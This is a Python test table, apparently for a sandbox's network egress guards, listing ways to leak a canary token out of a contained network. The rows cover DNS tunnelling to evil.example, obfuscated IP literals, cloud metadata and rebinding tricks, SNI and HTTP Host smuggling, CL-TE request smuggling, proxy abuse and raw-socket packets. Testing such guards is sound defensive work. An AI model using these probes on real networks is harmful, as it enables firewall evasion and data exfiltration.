# SPDX-License-Identifier: Apache-2.0
"""
The table of ways out of a network by name. What is said is TOKEN, another one each
time; whether it has come out, the canary knows, or for rows with `seen` the probe.

`guards` are what holds the row; all off together, it must come out. They are parts of
the plan (as tests/tools/planedit.c switches them off), of purple-net ("net:",
open-net.c) and of the launcher ("run:", open-run.c); "given" is that the policy does
not give the directory. Where several are named, there are so many layers behind one
promise, and each alone holds it.
"""
import functools
import socket
import ssl
import struct
from dataclasses import dataclass, field

from canary import (ADDRESS, COMPATIBLE, DEVICE, LAN, METADATA, NAT64, OTHER, OTHER6, PUBLIC_DNS,
                    PUBLIC_DNS6, SIX_TO_FOUR, WEB)

NAME, HOST = "ok.example", "host.purple.internal"
ALLOW = (f"{NAME}:443", f"{NAME}:80", f"{NAME}:9000", "*.wild.example:443", f"{ADDRESS}:9000")
REACHES = (("tcp", WEB, 443), ("tcp", WEB, 80), ("tcp", WEB, 9000), ("tcp", ADDRESS, 9000))


@dataclass
class Given:
    """What a row's setup has made."""
    names: dict = field(default_factory=dict)  # for {…} in the probe
    call: dict = field(default_factory=dict)  # keywords of the run
    granted: list = field(default_factory=list)  # options, when the guard "given" is off
    hear: object = lambda token: False  # has what listens outside heard it?


@dataclass(frozen=True)
class Row:
    id: str
    guards: tuple
    probe: object  # of the token, gives the command
    allow: tuple = ALLOW
    block: tuple = ()
    reaches: tuple = REACHES  # what may be seen outside: (protocol, address, port)
    alone: bool = True  # each of several guards holds it without the others
    seen: bool = False  # the probe sees whether it worked, where the canary could not
    setup: object = None  # context manager of (lab, token, operations on the plan): a Given
    base: tuple = ()  # what the plan cannot have with a guard off; no guard itself
    status: int = 0  # of a run that is contained
    users: tuple = ("root", "user")
    why: str = ""  # of users


# ---- what is said ----

def hexes(pieces, token):
    """A piece is bytes, a text with TOKEN in it, or a function of the token; "+" waits."""
    for piece in pieces:
        wait = ""
        if isinstance(piece, tuple):
            wait, piece = piece
        if callable(piece):
            piece = piece(token)
        if isinstance(piece, str):
            piece = piece.replace("TOKEN", token).encode("latin-1")
        yield wait + piece.hex()


def send(kind, host, port, *pieces, options=()):
    return lambda token: ["/probes/send", kind, host.replace("TOKEN", token), port, *options,
                          *hexes(pieces, token)]


def question(name, kind=1, edns=False):
    """A DNS query, as over UDP."""
    def make(token):
        labels = b"".join(bytes([len(p)]) + p.encode()
                          for p in name.replace("TOKEN", token).split("."))
        return struct.pack("!6H", 0x4242, 0x0100, 1, 0, 0, 0) + labels + struct.pack(
            "!BHH", 0, kind, 1)
    return make


def framed(query):
    """The same over TCP."""
    def make(token):
        text = query(token)
        return struct.pack("!H", len(text)) + text
    return make


def hello(name, alpn=None):
    """A ClientHello; the name None is no server_name."""
    @functools.cache
    def make(token):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        if alpn:
            context.set_alpn_protocols([alpn.replace("TOKEN", token)])
        outgoing = ssl.MemoryBIO()
        client = context.wrap_bio(ssl.MemoryBIO(), outgoing,
                                  server_hostname=name and name.replace("TOKEN", token))
        try:
            client.do_handshake()
        except ssl.SSLWantReadError:
            pass
        return outgoing.read()
    return make


def python(script, *args):
    """A script inside, as any program has it; TOKEN in @args is the token."""
    return lambda token: ["python3", "-c", script, *(str(a).replace("TOKEN", token)
                                                     for a in args)]


# ---- names ----

RESOLVER = "198.18.0.1"
LOOKUP, TYPES = ("net:lookup",), ("net:lookup", "net:types")
LONG = ".".join(["a" * 50] * 2)
MANY = 140  # more new names than a wildcard lets out at once, and within the test's time

NAMES = [
    Row("dns-tunnel", LOOKUP, send("udp", RESOLVER, 53, question("TOKEN.evil.example"))),
    Row("dns-tunnel-tcp", LOOKUP,
        send("tcp", RESOLVER, 53, framed(question("TOKEN.evil.example")))),
    Row("dns-tunnel-aaaa", LOOKUP, send("udp", RESOLVER, 53, question("TOKEN.evil.example", 28))),
    Row("dns-txt", TYPES, send("udp", RESOLVER, 53, question("TOKEN.evil.example", 16))),
    Row("dns-null", TYPES, send("udp", RESOLVER, 53, question("TOKEN.evil.example", 10))),
    Row("dns-txt-wildcard", ("net:types",),
        send("udp", RESOLVER, 53, question("TOKEN.wild.example", 16))),
    # Types that are asked for where the name is allowed.
    Row("dns-srv", TYPES, send("udp", RESOLVER, 53, question("_x._tcp.TOKEN.example", 33)),
        alone=False),
    Row("dns-https", TYPES, send("udp", RESOLVER, 53, question("TOKEN.evil.example", 65)),
        alone=False),
    Row("dns-service-long", LOOKUP,
        send("udp", RESOLVER, 53, question(f"_aTOKEN._tcp.{NAME}", 33))),
    Row("dns-service-many", ("net:services",), send("udp", RESOLVER, 53, *(
        ("+" if i else "", question(f"_n{i}._tcp.{NAME}", 33)) for i in range(MANY)),
        ("+", question(f"_TOKEN._tcp.{NAME}", 33)))),
    Row("dns-suffix", LOOKUP,
        send("udp", RESOLVER, 53, question("ok.example.TOKEN.example"))),
    Row("dns-wildcard-deep", LOOKUP,
        send("udp", RESOLVER, 53, question("TOKEN.a.b.c.d.wild.example"))),
    Row("dns-wildcard-long", LOOKUP,
        send("udp", RESOLVER, 53, question(f"TOKEN.{LONG}.wild.example"))),
    Row("dns-wildcard-many", ("net:newnames",), send("udp", RESOLVER, 53, *(
        ("+" if i else "", question(f"n{i}.wild.example")) for i in range(MANY)),
        ("+", question("TOKEN.wild.example")))),
    Row("dns-reverse", TYPES,
        send("udp", RESOLVER, 53, question("TOKEN.8.8.8.in-addr.arpa", 12))),
    Row("dns-other-server", ("off:net",),
        send("udp", PUBLIC_DNS, 53, question("TOKEN.evil.example"))),
    Row("dns-other-server-tcp", ("off:net",),
        send("tcp", PUBLIC_DNS, 53, framed(question("TOKEN.evil.example")))),
    Row("dns-other-server-v6", ("off:net",),
        send("udp6", PUBLIC_DNS6, 53, question("TOKEN.evil.example"))),
]

# ---- TCP ----

RULES, SPECIAL = ("net:connect", "net:dial"), ("net:special",)
LOOPBACK = ("net:special", "net:loopback")
NET = ("off:net",)
ANY4, ANY6 = ("0.0.0.0/0",), ("[::/0]",)
SAY_TO = """
import socket, sys
try:
    s = socket.create_connection((sys.argv[1], 9000))
    s.sendall(sys.argv[2].encode())
    s.recv(99)
except OSError as e:
    print(e)
"""

TCP = [
    Row("tcp-host", RULES, send("tcp", OTHER, 9000, "TOKEN")),
    Row("tcp-host-v6", RULES, send("tcp6", OTHER6, 9000, "TOKEN")),
    Row("tcp-port", RULES, send("tcp", NAME, 22, "TOKEN")),
    Row("tcp-literal", RULES, send("tcp", WEB, 9000, "TOKEN"), reaches=()),
    Row("tcp-literal-port", RULES, send("tcp", ADDRESS, 9001, "TOKEN")),
    Row("tcp-mapped", RULES, send("tcp6", f"::ffff:{OTHER}", 9000, "TOKEN")),
    Row("tcp-hexadecimal", RULES, python(SAY_TO, "0x5db8d823", "TOKEN")),
    Row("tcp-decimal", RULES, python(SAY_TO, "1572395043", "TOKEN")),
    Row("tcp-octal", RULES, python(SAY_TO, "0135.0270.0330.043", "TOKEN")),
    Row("tcp-fast-open", RULES, send("tcp", OTHER, 9000, "TOKEN", options=["--fastopen"])),
    Row("tcp-unspec", RULES, send("tcp", OTHER, 9000, "TOKEN", options=[f"--first={NAME}"])),
    Row("mptcp", RULES, send("mptcp", OTHER, 9000, "TOKEN")),
    Row("dot", RULES, send("tcp", PUBLIC_DNS, 853, hello("TOKEN.example"))),
    Row("doh", RULES, send("tcp", PUBLIC_DNS, 443, hello("TOKEN.example"))),
    Row("tls-no-name-literal", RULES, send("tcp", OTHER, 443, hello(None, "TOKEN"))),
    Row("tcp-this-host", NET, send("tcp", "0.0.0.0", 9000, "TOKEN")),
    Row("tcp-loopback", NET, send("tcp", "127.0.0.1", 9000, "TOKEN")),
    Row("tcp-loopback-v6", NET, send("tcp6", "::1", 9000, "TOKEN")),
    Row("tcp-loopback-mapped", NET, send("tcp6", "::ffff:127.0.0.1", 9000, "TOKEN")),
    Row("sctp", NET, send("sctp", OTHER, 9000, "TOKEN")),
    Row("sctp-packets", ("off:seccomp", *NET), send("sctp-packets", OTHER, 9000, "TOKEN")),
    Row("dccp", ("off:seccomp", *NET), send("dccp", OTHER, 9000, "TOKEN")),
    Row("smc", ("off:seccomp", *NET), send("smc", OTHER, 9000, "TOKEN")),

    # Ranges that no address rule lists, where a wide one would let them through.
    Row("lan", RULES, send("tcp", LAN, 9000, "TOKEN")),
    Row("lan-wide", SPECIAL, send("tcp", LAN, 9000, "TOKEN"), allow=ANY4),
    Row("lan-mapped", SPECIAL, send("tcp6", f"::ffff:{LAN}", 9000, "TOKEN"), allow=ANY4 + ANY6),
    Row("lan-nat64", SPECIAL, send("tcp6", NAT64, 9000, "TOKEN"), allow=ANY6),
    Row("metadata", SPECIAL, send("tcp", METADATA, 80, "GET /TOKEN HTTP/1.0\r\n\r\n"),
        allow=ANY4),
    Row("listener", LOOPBACK, send("tcp", "127.0.0.1", 1, "TOKEN"), allow=ANY4),
    Row("listener-v6", LOOPBACK, send("tcp6", "::1", 1, "TOKEN"), allow=ANY6),
    Row("v4-compatible", SPECIAL, send("tcp6", COMPATIBLE, 9000, "TOKEN"), allow=ANY6),
    Row("6to4", SPECIAL, send("tcp6", SIX_TO_FOUR, 9000, "TOKEN"), allow=ANY6),
    Row("6to4-blocked", ("net:embedded",), send("tcp6", SIX_TO_FOUR, 9000, "TOKEN"),
        allow=("[2002::/16]",), block=(OTHER,)),

    Row("blocked", RULES, send("tcp", OTHER, 9000, "TOKEN"), allow=ANY4, block=(OTHER,)),
    Row("blocked-mapped", RULES, send("tcp6", f"::ffff:{OTHER}", 9000, "TOKEN"),
        allow=ANY4 + ANY6, block=(OTHER,)),

    # The host by its name, where no rule has exactly that.
    *(Row(f"host-{case}", (*LOOKUP, *RULES), send("tcp", HOST, 9000, "TOKEN"), allow=allow)
      for case, allow in (("name", ALLOW), ("wildcard", ("*.internal:9000",)),
                          ("port", ("9000",)))),
    Row("host-other-port", RULES, send("tcp", HOST, 9000, "TOKEN"), allow=(f"{HOST}:9001",)),
    Row("host-other-name", SPECIAL, send("tcp", "home.example", 9000, "TOKEN"),
        allow=(f"{HOST}:9000", "home.example:9000"), reaches=()),

    # Names that lead to such.
    *(Row(f"rebinding-{name}", SPECIAL, send("tcp", f"{name}.example", port, "TOKEN"),
          allow=(f"{name}.example",), reaches=())
      for name, port in (("lan", 9000), ("meta", 80), ("home", 9000), ("alias", 9000))),
]

# ---- what is said to an allowed name ----

HELLO, HTTP = ("net:hello",), ("net:http",)


def cut(make, at):
    """@make's bytes up to @at one by one, then the rest."""
    return [*(lambda token, i=i: make(token)[i:i + 1] for i in range(at)),
            lambda token: make(token)[at:]]


def records(make, at):
    """A ClientHello in two records."""
    def split(token):
        head, body = make(token)[:3], make(token)[5:]
        return b"".join(head + struct.pack("!H", len(part)) + part
                        for part in (body[:at], body[at:]))
    return split


def web(text, *more):
    return send("tcp", NAME, 80, text, *more)


EVIL = hello("TOKEN.example")
SAID = [
    Row("sni", HELLO, send("tcp", NAME, 443, EVIL)),
    Row("sni-segments", HELLO, send("tcp", NAME, 443, *cut(EVIL, 20))),
    Row("sni-records", HELLO, send("tcp", NAME, 443, records(EVIL, 20))),
    Row("sni-other-port", HELLO, send("tcp", NAME, 9000, EVIL)),
    Row("http-host", HTTP, web("GET / HTTP/1.1\r\nHost: TOKEN.example\r\n\r\n")),
    Row("http-host-port", HTTP, web(f"GET /TOKEN HTTP/1.1\r\nHost: {NAME}:81\r\n\r\n")),
    Row("http-two-hosts", HTTP,
        web(f"GET / HTTP/1.1\r\nHost: {NAME}\r\nHost: TOKEN.example\r\n\r\n")),
    Row("http-host-fold", HTTP,
        web(f"GET / HTTP/1.1\r\nHost: {NAME}\r\n TOKEN.example\r\n\r\n")),
    Row("http-host-space", HTTP, web("GET / HTTP/1.1\r\nHost : TOKEN.example\r\n\r\n")),
    Row("http-bare-lf", HTTP, web("GET / HTTP/1.1\nHost: TOKEN.example\n\n")),
    Row("http-user", HTTP, web(f"GET / HTTP/1.1\r\nHost: {NAME}@TOKEN.example\r\n\r\n")),
    Row("http-absolute", HTTP,
        web(f"GET http://TOKEN.example/ HTTP/1.1\r\nHost: {NAME}\r\n\r\n")),
    Row("http-connect", HTTP,
        web("CONNECT TOKEN.example:443 HTTP/1.1\r\nHost: TOKEN.example:443\r\n\r\n")),
    Row("http-cl-te", HTTP,
        web(f"POST / HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: 60\r\n"
            "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n"
            "Host: TOKEN.example\r\n\r\n")),
    Row("http-te-other", HTTP,
        web(f"POST /TOKEN HTTP/1.1\r\nHost: {NAME}\r\nTransfer-Encoding: xchunked\r\n\r\n")),
    Row("http-segments", HTTP, send("tcp", NAME, 80, *cut(
        lambda token: f"GET / HTTP/1.1\r\nHost: {token}.example\r\n\r\n".encode(), 22))),
]

FOLLOW = ("net:follow",)
FIRST = f"GET / HTTP/1.1\r\nHost: {NAME}\r\n"
SECOND = "GET / HTTP/1.1\r\nHost: TOKEN.example\r\n\r\n"
POST = f"POST / HTTP/1.1\r\nHost: {NAME}\r\n"

LATER = [
    Row("http-second", FOLLOW, web(FIRST + "\r\n", ("+", SECOND))),
    Row("http-pipelined", FOLLOW, web(FIRST + "\r\n" + SECOND)),
    Row("http-third", FOLLOW, web(FIRST + "\r\n", ("+", FIRST + "\r\n"), ("+", SECOND))),
    Row("http-behind-body", FOLLOW, web(POST + "Content-Length: 4\r\n\r\nbody" + SECOND)),
    Row("http-behind-chunks", FOLLOW,
        web(POST + "Transfer-Encoding: chunked\r\n\r\n4\r\nbody\r\n0\r\n\r\n" + SECOND)),
    Row("http-chunk-lf", FOLLOW,
        web(POST + "Transfer-Encoding: chunked\r\n\r\n4\nbody\r\n0\r\n\r\n" + SECOND)),
    Row("http-behind-upgrade", FOLLOW,
        web(FIRST + "Connection: upgrade\r\nUpgrade: websocket\r\n\r\n" + SECOND)),
    Row("http-then-tls", FOLLOW, web(FIRST + "\r\n", ("+", EVIL))),
    Row("http-then-other", FOLLOW, web(FIRST + "\r\n", ("+", "TOKEN\r\n"))),
]

# ---- by the proxy inside ----

GREETING, CONNECT5 = b"\5\1\0", b"\5\1\0"


def proxy(*pieces):
    return send("tcp", RESOLVER, 3128, *pieces)


def connect(target, then):
    return proxy(f"CONNECT {target} HTTP/1.0\r\n\r\n", ("+", then))


def socks_name(name, port, then):
    return proxy(GREETING, ("+", CONNECT5 + b"\3" + bytes([len(name)]) + name.encode() +
                            struct.pack("!H", port)), ("+", then))


PROXY = [
    Row("proxy-connect", RULES, connect(f"{OTHER}:9000", "TOKEN")),
    Row("proxy-connect-v6", RULES, connect(f"[{OTHER6}]:9000", "TOKEN")),
    Row("proxy-port", RULES, connect(f"{NAME}:22", "TOKEN")),
    Row("proxy-url", RULES, proxy(f"GET http://{OTHER}:9000/TOKEN HTTP/1.0\r\n\r\n")),
    Row("proxy-socks", RULES, proxy(GREETING, ("+", CONNECT5 + b"\1" + bytes(
        int(n) for n in OTHER.split(".")) + struct.pack("!H", 9000)), ("+", "TOKEN"))),
    Row("proxy-name", ("net:connect",), connect("TOKEN.evil.example:443", "")),
    Row("proxy-lan", ("net:special",), connect("lan.example:9000", "TOKEN"),
        allow=ALLOW + ("lan.example:9000",)),
    Row("proxy-hello", ("net:hello",), connect(f"{NAME}:443", hello("TOKEN.example"))),
    Row("proxy-host", ("net:http",), socks_name(NAME, 80, (
        "GET / HTTP/1.1\r\nHost: TOKEN.example\r\n\r\n"))),
    Row("proxy-loopback", ("net:loopback",), connect("127.0.0.1:9000", "TOKEN"),
        allow=ALLOW + ("127.0.0.1:9000",)),
]

# ---- datagrams ----

RAW = ("off:seccomp", "off:capabilities", "off:user", "off:net")
DEAF = "--deaf"
ROOT = {"users": ("root",), "why": "the kernel lets no other user have one outside"}
ECHO4, ECHO6 = "\x08\0\0\0\0\1\0\1TOKEN", "\x80\0\0\0\0\1\0\1TOKEN"


def ip_packet(token):
    """To OTHER, UDP."""
    text = b"".join([struct.pack("!4H", 5000, 9000, 8 + len(token), 0), token.encode()])
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(text), 1, 0, 64, 17, 0,
                       socket.inet_aton(WEB), socket.inet_aton(OTHER))
    return head + text


DATAGRAMS = [
    Row("udp-host", NET, send("udp", OTHER, 9000, "TOKEN")),
    Row("udp-name", NET, send("udp", WEB, 9000, "TOKEN")),
    Row("udp-v6", NET, send("udp6", OTHER6, 9000, "TOKEN")),
    Row("udp-mapped", NET, send("udp6", f"::ffff:{OTHER}", 9000, "TOKEN")),
    Row("udp-loopback", NET, send("udp", "127.0.0.1", 9000, "TOKEN")),
    Row("udp-unconnected", NET, send("udp", OTHER, 9000, "TOKEN", options=["--unconnected", DEAF])),
    Row("udp-unspec", NET, send("udp", OTHER, 9000, "TOKEN", options=[f"--first={WEB}"])),
    Row("udp-freebind", NET,
        send("udp", WEB, 9000, "TOKEN", options=["--freebind", f"--bind={OTHER}"])),
    Row("udp-device", NET, send("udp", OTHER, 9000, "TOKEN", options=[f"--device={DEVICE}", DEAF])),
    Row("udp-broadcast", NET,
        send("udp", "255.255.255.255", 9000, "TOKEN", options=["--broadcast", DEAF])),
    Row("udp-multicast", NET, send("udp", "224.0.0.251", 5353, "TOKEN", options=[DEAF])),
    Row("quic", NET, send("udp", WEB, 443, "\xc0\0\0\0\1\x08TOKEN")),
    Row("udplite", NET, send("udplite", OTHER, 9000, "TOKEN")),
    Row("ping", NET, send("ping", OTHER, 0, ECHO4)),
    Row("ping-v6", NET, send("ping6", OTHER6, 0, ECHO6)),
    Row("raw-icmp", RAW, send("raw-icmp", OTHER, 0, ECHO4), **ROOT),
    Row("raw-icmp6", RAW, send("raw-icmp6", OTHER6, 0, ECHO6), **ROOT),
    Row("raw-gre", RAW, send("raw-gre", OTHER, 0, "TOKEN"), **ROOT),
    Row("raw-ip", RAW, send("raw-ip", OTHER, 0, ip_packet), **ROOT),
    Row("source-route", ("off:capabilities", "off:user", "off:net"),
        send("udp", WEB, 9000, "TOKEN", options=[f"--route={OTHER}", DEAF]), **ROOT),
    Row("transparent", ("off:capabilities", "off:user", "off:net"),
        send("udp", WEB, 9000, "TOKEN", options=["--transparent", "--bind=198.51.100.7", DEAF]),
        **ROOT),
    Row("packet", RAW, send("packet", "lo", 0, ip_packet), **ROOT),
]

# ---- datagrams, where rules list some ----

UDP_RULES = {"allow": (*ALLOW, f"{ADDRESS}:9000/udp", f"{NAME}:9001/udp", f"{PUBLIC_DNS}:53/udp"),
             "reaches": (*REACHES, ("udp", ADDRESS, 9000), ("udp", WEB, 9001))}
UDP_WIDE = {"allow": ("0.0.0.0/0:9000/udp", "[::/0]:9000/udp")}

RELAYED = [
    Row("udp-rule-host", RULES, send("udp", OTHER, 9000, "TOKEN"), **UDP_RULES),
    Row("udp-rule-port", RULES, send("udp", ADDRESS, 9001, "TOKEN"), **UDP_RULES),
    Row("udp-rule-literal", RULES, send("udp", WEB, 9001, "TOKEN"),
        allow=UDP_RULES["allow"], reaches=()),
    Row("udp-rule-v6", RULES, send("udp6", OTHER6, 9000, "TOKEN"), **UDP_RULES),
    Row("udp-rule-mapped", RULES, send("udp6", f"::ffff:{OTHER}", 9000, "TOKEN"), **UDP_RULES),
    Row("udp-rule-tcp", RULES, send("tcp", ADDRESS, 9000, "TOKEN"),
        allow=(f"{ADDRESS}:9000/udp",)),
    Row("udp-rule-dns", LOOKUP, send("udp", OTHER, 53, question("TOKEN.evil.example")),
        **UDP_RULES),
    Row("udp-rule-lan", SPECIAL, send("udp", LAN, 9000, "TOKEN"), **UDP_WIDE),
    Row("udp-rule-nat64", SPECIAL, send("udp6", NAT64, 9000, "TOKEN"), **UDP_WIDE),
    Row("udp-rule-loopback", NET, send("udp", "127.0.0.1", 9000, "TOKEN"), **UDP_WIDE),
    Row("udp-rule-rebinding", SPECIAL, send("udp", "lan.example", 9000, "TOKEN"),
        allow=("lan.example:9000/udp",), reaches=()),
]

ROWS = NAMES + TCP + SAID + LATER + PROXY + DATAGRAMS + RELAYED

ALLOWED = [
    Row("name", (), send("tcp", NAME, 9000, "TOKEN")),
    Row("address", (), send("tcp", ADDRESS, 9000, "TOKEN")),
    Row("wildcard", (), send("udp", RESOLVER, 53, question("TOKEN.wild.example"))),
    Row("datagram", (), send("udp", ADDRESS, 9000, "TOKEN"), **UDP_RULES),
    Row("datagram-name", (), send("udp", NAME, 9001, "TOKEN"), **UDP_RULES),
]
